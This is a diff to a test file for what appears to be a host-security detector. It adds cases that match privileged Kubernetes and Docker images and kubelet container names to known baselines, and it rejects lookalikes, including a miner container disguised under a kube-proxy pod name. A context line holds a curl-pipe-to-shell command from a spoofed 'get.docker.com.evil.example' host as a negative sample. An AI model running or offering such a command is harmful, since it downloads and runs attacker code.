@@ -103,6 +103,14 @@ test("preload, units, images, installers, temp layouts", async (t) => {
   t.equal(privilegedImage("docker:24.0-dind")?.baseline, "container:docker-dind");
   t.equal(privilegedImage("docker:24.0-cli"), undefined);
   t.equal(privilegedImage("alpine:3.19"), undefined);
+  t.equal(privilegedImage("registry.k8s.io/kube-proxy:v1.28.10")?.baseline, "container:kube-proxy");
+  t.equal(privilegedImage("docker.io/calico/node:v3.27.3")?.baseline, "container:cni-node-agent");
+  t.equal(privilegedImage("moby/buildkit:buildx-stable-1")?.baseline, "container:buildkit", "buildx's docker-container builder");
+  const digest = "sha256:15970e6d6c768a2505f0c3f5ba3ffd121fa9c3281483067c65dc60af860b110e";
+  t.equal(privilegedImage(digest, "/k8s_calico-node_calico-node-x7q2z_kube-system_07390be8-2c1d-4a7e-9f0a-1b2c3d4e5f60_0")?.baseline, "container:cni-node-agent", "an image ID: the kubelet's container name and namespace");
+  t.equal(privilegedImage(digest, "/k8s_calico-node_calico-node-x7q2z_default_07390be8-2c1d-4a7e-9f0a-1b2c3d4e5f60_0"), undefined, "the same container name in an application namespace");
+  t.equal(privilegedImage(digest, "/k8s_miner_kube-proxy-abc_kube-system_07390be8_0"), undefined, "the container's name counts, not the pod's");
+  t.equal(privilegedImage(digest, "/calico-node"), undefined, "a plain Docker name is not a kubelet's");
   t.equal(vendorInstaller("curl -fsSL https://get.docker.com | sh")?.baseline, "installer:docker");
   t.equal(vendorInstaller("curl -fsSL https://get.docker.com.evil.example/x | sh"), undefined);
   t.equal(tempExecution("/tmp/go-build123/b001/exe/main")?.baseline, "tmp-exec:go-run");
